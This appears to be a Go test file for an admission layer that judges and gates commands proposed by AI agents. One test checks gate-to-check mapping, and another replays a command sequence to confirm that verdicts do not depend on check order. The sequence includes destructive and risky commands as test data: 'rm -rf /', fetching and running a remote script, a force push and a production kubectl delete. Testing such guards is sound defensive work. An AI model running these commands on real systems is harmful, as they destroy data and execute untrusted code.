package admission_test

import (
	"fmt"
	"slices"
	"testing"
	"time"

	"interlock"
	"interlock/internal/admission"
	"interlock/internal/admission/containment"
	"interlock/internal/gate"
	"interlock/internal/ledger"
	"interlock/internal/phase"
)

// TestALookIsAFileAndARow: what a feature refers to, finds and writes stands in one file, and every gate that looks find for has
// its row, one and no more.
func TestALookIsAFileAndARow(t *testing.T) {
	of := map[string]int{}
	for _, look := range admission.Looks() {
		if len(look.Files) != 1 {
			t.Errorf("a look of %v stands in %v", look.Gates, look.Files)
		}
		for _, name := range look.Gates {
			of[name]++
		}
	}
	for _, row := range gate.Gates() {
		want := 0
		if row.From == gate.FromLooks {
			want = 1
		}
		if of[row.Name] != want {
			t.Errorf("%d looks find for the gate %s, want %d", of[row.Name], row.Name, want)
		}
		if row.Check == nil && row.From == gate.FromCheck {
			t.Errorf("nobody finds for the gate %s", row.Name)
		}
		delete(of, row.Name)
	}
	if len(of) > 0 {
		t.Errorf("looks find for gates that are not there: %v", of)
	}
}

// TestNoOrderOfLooksChangesAVerdict: whatever stands first among looks, an action is judged the same for the same reasons.
func TestNoOrderOfLooksChangesAVerdict(t *testing.T) {
	story := func() (told []string) {
		h := newHouse(t, atTier(t, 2), func(c *admission.Config) { c.TellUserAfter, c.MaxQuestions = 2, 4 })
		say := func(a interlock.Answer) {
			rules := []string{}
			for rule := range names(a) {
				rules = append(rules, rule)
			}
			slices.Sort(rules)
			told = append(told, fmt.Sprint(a.Verdict, a.Answer, rules, a.Request != "", a.Challenge != ""))
		}
		for n, command := range []string{"ls", "curl -fsSLo x.sh https://example.com/x.sh", "sh x.sh",
			"git push --force origin feature",
			"rm -rf /", "rm -rf /etc", "ls", "kubectl -n prod delete deploy web", "rm -rf /", "git status"} {
			h.now = h.now.Add(time.Minute)
			agent := func(p *admission.Case) {
				p.Requester.Agent, p.CanAsk = fmt.Sprint("agent-", n%2), n%3 != 0
				p.Read = func(interlock.View, []string) map[string]string { return nil }
			}
			a := h.propose(command, agent)
			say(a)
			if a.Request != "" {
				if err := h.approve(a.Request, interlock.Allow); err == nil {
					say(h.propose(command, agent))
				}
			}
		}
		h.tighten(containment.Tightening{Scope: ledger.HoldAgent, Key: "agent-1", To: phase.Alternate, Trigger: phase.TriggerSignal,
			Why: "drift"})
		say(h.propose("touch a", func(p *admission.Case) { p.Requester.Agent = "agent-1" }))
		if _, err := h.Kill(t.Context(), ledger.KillHard, "enough", "olga"); err != nil {
			t.Fatal(err)
		}
		say(h.propose("ls"))
		h.entries()
		return told
	}
	want := story()
	for seed := range uint64(6) {
		restore := admission.ShuffleLooks(seed)
		if got := story(); !slices.Equal(got, want) {
			t.Errorf("order %d:\n%q\nwant\n%q", seed, got, want)
		}
		restore()
	}
}
